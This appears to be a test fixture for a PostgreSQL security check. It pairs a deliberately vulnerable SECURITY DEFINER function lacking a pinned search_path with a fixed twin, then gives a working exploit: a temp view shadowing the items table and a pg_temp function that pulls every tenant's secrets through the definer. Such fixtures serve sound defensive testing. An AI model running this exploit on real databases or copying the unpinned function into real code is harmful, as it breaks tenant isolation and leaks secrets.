-- A definer function without a search_path of its own reads what the caller puts in its way, a view that calls a function
-- of the caller's as the definer.
-- object: public.item_label(uuid)
-- base: uuid
--- leak
RESET ROLE;
CREATE FUNCTION item_label(wanted uuid) RETURNS text LANGUAGE plpgsql STABLE SECURITY DEFINER AS $$
BEGIN
    RETURN (SELECT '[' || title || ']' FROM items
            WHERE id = wanted AND tenant_id = current_setting('app.current_tenant_id')::uuid);
END $$;
--- twin
RESET ROLE;
CREATE FUNCTION item_label(wanted uuid) RETURNS text LANGUAGE plpgsql STABLE SECURITY DEFINER
    SET search_path = public, pg_temp AS $$
BEGIN
    RETURN (SELECT '[' || title || ']' FROM items
            WHERE id = wanted AND tenant_id = current_setting('app.current_tenant_id')::uuid);
END $$;
--- exploit
CREATE FUNCTION pg_temp.loot() RETURNS text LANGUAGE sql AS $$ SELECT string_agg(secret, ',') FROM public.items $$;
CREATE TEMP VIEW items AS
    SELECT '{A}'::uuid AS id, '{A}'::uuid AS tenant_id, pg_temp.loot() AS title;
SELECT WHERE item_label('{A}') LIKE '%b-secret%';
